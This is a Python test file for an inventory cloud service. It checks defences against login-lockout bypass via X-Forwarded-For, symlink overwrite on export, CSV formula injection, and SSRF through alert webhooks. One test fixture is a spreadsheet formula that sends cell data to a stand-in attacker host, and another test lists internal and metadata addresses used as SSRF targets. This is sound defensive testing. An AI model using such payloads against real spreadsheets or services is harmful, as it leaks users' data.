"""Issue 12, item 13: forwarded headers only from configured proxies, exports that follow no
symlink and write no formula, alert destinations on an allow-list, delivery errors for admins."""

from __future__ import annotations

import asyncio
import csv
import io
import os
from pathlib import Path

import httpx
import pytest
from conftest import Cloud

from cloud.core.csvsafe import neutralise, restore_cell
from cloud.main import build_server, create_app
from cloud.notify import build_channel
from cloud.notify.destinations import DestinationRefused, Destinations
from shelfsense.cli import main as cli_main
from shelfsense.config import CloudSettings, ColdChainSettings, Settings
from shelfsense.services import free_port

MAX_FAILURES = 10  # cloud.web.routes._LoginLimiter's default


async def _failed_logins(client: httpx.AsyncClient, count: int) -> list[int]:
    statuses = []
    for n in range(count):
        response = await client.post(
            "/web/login",
            json={"token": "not-a-token"},
            headers={"X-Forwarded-For": f"203.0.113.{n}"},  # a new "client" every time
        )
        statuses.append(response.status_code)
    return statuses


async def test_rotating_x_forwarded_for_does_not_bypass_the_login_lockout(settings: Settings) -> None:
    """Through a real uvicorn from 127.0.0.1 (uvicorn alone would believe loopback's X-F-F)."""
    port = free_port()
    server = build_server(
        settings.model_copy(update={"cloud": settings.cloud.model_copy(update={"port": port})})
    )
    task = asyncio.create_task(server.serve())
    try:
        while not server.started:
            assert not task.done(), "uvicorn did not start"
            await asyncio.sleep(0.02)
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as client:
            statuses = await _failed_logins(client, MAX_FAILURES + 2)
    finally:
        server.should_exit = True
        await asyncio.wait_for(task, 30)
    assert statuses == [401] * MAX_FAILURES + [429, 429]


async def test_a_trusted_proxy_names_the_client(settings: Settings) -> None:
    cloud_settings = settings.cloud.model_copy(update={"trusted_proxies": ["127.0.0.0/8"]})
    app = create_app(settings.model_copy(update={"cloud": cloud_settings}))
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://cloud.test") as client:
            statuses = await _failed_logins(client, MAX_FAILURES + 2)
    assert statuses == [401] * (MAX_FAILURES + 2)  # twelve different clients, none locked out
    with pytest.raises(ValueError, match="trusted_proxies"):
        CloudSettings(trusted_proxies=["proxy.example"])


def test_export_refuses_to_follow_a_symlink(settings: Settings, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "export"
    out.mkdir()
    os.symlink(victim, out / "products.csv")
    db = settings.cloud.db_url.replace("+aiosqlite", "").replace("+asyncpg", "")
    assert cli_main(["cloud", "export", str(out), "--db", db]) == 1
    assert victim.read_text() == "precious\n"
    assert (out / "products.csv").is_symlink()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]


async def test_csv_exports_neutralise_formulas_and_import_back_unchanged(cloud: Cloud) -> None:
    """OWASP "CSV Injection": cells starting with = + - @ TAB CR are written with a leading '."""
    auth = {"Authorization": f"Bearer {cloud.admin}"}
    products = [
        {"sku": f"P{i}", "name": name, "storage_temp_max_c": -18.0} for i, name in enumerate(FORMULAS)
    ]
    imported = await cloud.client.post("/api/v1/master/products/import", json=products, headers=auth)
    assert imported.json() == {"imported": len(FORMULAS)}, imported.text
    exported = await cloud.client.get(
        "/api/v1/master/products/export", params={"format": "csv"}, headers=auth
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))  # as a spreadsheet would split it
    assert [r["name"] for r in rows] == ["'" + f for f in FORMULAS]
    assert all(not cell.startswith(("=", "+", "@", "\t")) for r in rows for cell in r.values())
    assert {r["storage_temp_max_c"] for r in rows} == {"-18.0"}  # numbers stay numbers
    # Our import removes the apostrophe again: an export round-trips.
    for sku in (f"P{i}" for i in range(len(FORMULAS))):
        assert (await cloud.client.delete(f"/api/v1/products/{sku}", headers=auth)).status_code == 204
    headers = {**auth, "Content-Type": "text/csv"}
    again = await cloud.client.post("/api/v1/master/products/import", content=exported.text, headers=headers)
    assert again.status_code == 200, again.text
    names = [p["name"] for p in (await cloud.get("/api/v1/products", token=cloud.admin)).json()["items"]]
    assert sorted(names) == sorted(FORMULAS)
    assert [neutralise(v) for v in ("\t=1", "\r=1", "x=1", -5.0)] == ["'\t=1", "'\r=1", "x=1", -5.0]
    assert [restore_cell(neutralise(v)) for v in [*FORMULAS, "\t=1", "'quoted"]] == [
        *FORMULAS,
        "\t=1",
        "'quoted",
    ]


def test_alert_destinations_refuse_internal_addresses_unless_allowed() -> None:
    default = Destinations.parse([])
    for host in (
        "127.0.0.1",
        "localhost",
        "10.1.2.3",
        "169.254.169.254",
        "[::1]",
        "::ffff:127.0.0.1",
        "0.0.0.0",
    ):
        with pytest.raises(DestinationRefused):
            default.check_host(host)
    default.check_host("8.8.8.8")  # public
    default.check_host("hooks.example.com")
    allowed = Destinations.parse(["127.0.0.1", "10.0.0.0/8", "hooks.example.com"])
    allowed.check_host("127.0.0.1")
    allowed.check_host("10.9.9.9")
    allowed.check_host("hooks.example.com")
    for host in ("other.example.com", "8.8.8.8", "192.168.1.1"):  # a non-empty list is exhaustive
        with pytest.raises(DestinationRefused):
            allowed.check_host(host)

    def channels(extra: dict[str, object]) -> ColdChainSettings:
        return ColdChainSettings.model_validate(
            {
                "channels": [
                    {"type": "webhook", "name": "ops", "url": "http://127.0.0.1:9/h", "secret": "s"}
                ],
                **extra,
            }
        )

    with pytest.raises(DestinationRefused, match="internal address"):
        build_channel(channels({}).channels[0])
    cs = channels({"allowed_destinations": ["127.0.0.1"]})
    assert build_channel(cs.channels[0], Destinations.parse(cs.allowed_destinations)).name == "ops"


async def test_a_name_resolving_to_loopback_is_refused_before_delivery() -> None:
    with pytest.raises(DestinationRefused):
        await Destinations.parse([]).check_resolved("localhost", 80)
    await Destinations.parse(["localhost"]).check_resolved("localhost", 80)
